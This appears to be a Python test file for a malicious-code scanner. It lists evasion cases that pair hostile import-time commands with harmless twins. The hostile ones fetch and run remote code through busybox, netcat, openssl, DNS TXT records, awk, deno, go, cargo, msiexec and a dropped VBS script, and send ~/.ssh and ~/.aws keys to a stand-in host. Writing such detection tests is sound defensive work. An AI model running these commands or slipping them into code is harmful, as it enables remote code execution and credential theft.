"""More ways for a command to fetch and run, or to carry something off."""

from __future__ import annotations

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion

_URL = "https://stage.example.invalid/a"


def _run(title: str, command: str, honest: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """A command at import; the twin runs the same program, and nothing that it fetched."""
    return evasion(title, f"import os\nos.system({command!r})\n", f"import os\nos.system({honest!r})\n", verdict)


CASES = (
    _run("busybox", f"busybox wget -qO- {_URL} | busybox sh", "busybox ls | busybox sort"),
    _run(
        "Python as a downloader",
        f"python3 -c \"import urllib.request as u;print(u.urlopen('{_URL}').read().decode())\" | sh",
        "python3 -c \"print('a')\" | sort",
    ),
    _run("over TLS", "openssl s_client -quiet -connect 192.0.2.7:443 | sh", "openssl version | sort"),
    _run("netcat", "nc 192.0.2.7 4444 | sh", "nc -h | sort"),
    _run("unpacked and run", f"curl -s {_URL}.tgz | tar xz -C /tmp/a && /tmp/a/run", "tar xzf a.tgz -C a"),
    _run("scp", "scp x@stage.example.invalid:a /tmp/a && chmod +x /tmp/a && /tmp/a", "scp a b"),
    _run("rsync", "rsync rsync://stage.example.invalid/a /tmp/a; sh /tmp/a", "rsync a b"),
    _run("text record of a name", "dig +short TXT a.example.invalid | base64 -d | sh", "dig +short a.example.invalid"),
    _run(
        "awk",
        f'awk \'BEGIN{{while(("curl -s {_URL}"|getline l)>0) print l|"sh"}}\'',
        "awk '{print $1}' a",
        SUSPICIOUS,
    ),
    _run("deno", f"deno run -A {_URL}.ts", "deno run a.ts"),
    _run("go", "go run stage.example.invalid/a@latest", "go run ./cmd", SUSPICIOUS),
    _run("cargo", "cargo install --git https://stage.example.invalid/a.git && a", "cargo build", SUSPICIOUS),
    _run("installer of Windows", f"msiexec /q /i {_URL}.msi", "msiexec /?"),
    _run("keys by scp", "scp -r ~/.ssh x@stage.example.invalid:", "scp a b"),
    _run(
        "keys by rclone",
        "rclone copy ~/.aws :webdav,url=https://stage.example.invalid:",
        "rclone version",
        SUSPICIOUS,
    ),
    _run(
        "keys by git",
        "cd ~ && git init && git add .ssh .aws && git commit -m x && git push https://x:y@stage.example.invalid/r.git",
        "git describe --tags",
        SUSPICIOUS,
    ),
    evasion(
        "script of Windows, dropped",
        'import os\nopen(\'a.vbs\', \'w\').write(\'Set x=CreateObject("MSXML2.XMLHTTP"):x.open "GET","https://stage.example.invalid/a",0:'
        "x.send:ExecuteGlobal x.responseText')\nos.system('cscript a.vbs')\n",
        "import os\nopen('a.vbs', 'w').write('WScript.Echo \"a\"')\nos.system('cscript a.vbs')\n",
        SUSPICIOUS,
    ),
)
